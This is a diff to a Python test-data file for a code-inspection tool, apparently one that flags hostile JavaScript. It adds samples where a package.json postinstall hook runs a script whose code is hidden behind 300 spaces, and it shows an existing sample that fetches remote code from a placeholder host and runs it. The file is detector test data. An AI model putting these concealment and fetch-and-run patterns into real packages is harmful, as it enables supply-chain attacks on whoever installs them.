@@ -1,6 +1,6 @@
 """Samples and twins of what is peculiar to JavaScript: how its names are spelt, its objects, streams and modules."""
 
-from inspection.rules.sample import Sample, js
+from inspection.rules.sample import Sample, js, package
 
 HOSTILE: dict[str, dict[str, Sample]] = {
     "remote_code": {
@@ -44,6 +44,34 @@ HOSTILE: dict[str, dict[str, Sample]] = {
         "arguments are spread out of a list of lists": js(
             "const [load] = [['vm']].map((names) => require(...names));\n"
             "fetch('https://a.invalid').then((r) => r.text()).then(load.runInThisContext);\n"
+        ),
+    },
+    "hidden_text": {
+        "an option of Node runs a module first": Sample(
+            {
+                "package.json": package(postinstall="node --title a --import=./first.mjs -r ./b.js main.js"),
+                "main.js": "console.log(1);\n",
+                "b.js": "console.log(2);\n",
+                "first.mjs": "console.log(3);" + " " * 300 + "console.log(4);\n",
+            },
+            "review",
+            ("first.mjs", 1),
+        ),
+        "an option of Node stands before the script": Sample(
+            {
+                "package.json": package(postinstall="node -r dotenv/config --env-file .env main.js"),
+                "main.js": "console.log(3);" + " " * 300 + "console.log(4);\n",
+            },
+            "review",
+            ("main.js", 1),
+        ),
+        "an option of the shell stands before the script": Sample(
+            {
+                "package.json": package(postinstall="bash -euo pipefail main.sh"),
+                "main.sh": "echo 1" + " " * 300 + "; echo 2\n",
+            },
+            "review",
+            ("main.sh", 1),
         ),
     },
     "remote_command": {
@@ -181,6 +209,16 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "options of one's own are spread": {
             "app.js": "const { data } = await require('axios').get('https://a.invalid');\nconst own = { c: 1 };\n"
             "require('ejs').render('<p>', { n: data.n }, { client: true, ...own });\n"
+        },
+    },
+    "unread_code": {
+        "an option of Node names a package": {
+            "package.json": package(postinstall="node -r dotenv/config main.js"),
+            "main.js": "console.log(1);\n",
+        },
+        "an option of Python has a value": {
+            "package.json": package(postinstall="python -W ignore main.py"),
+            "main.py": "print(1)\n",
         },
     },
     "decoded_code": {
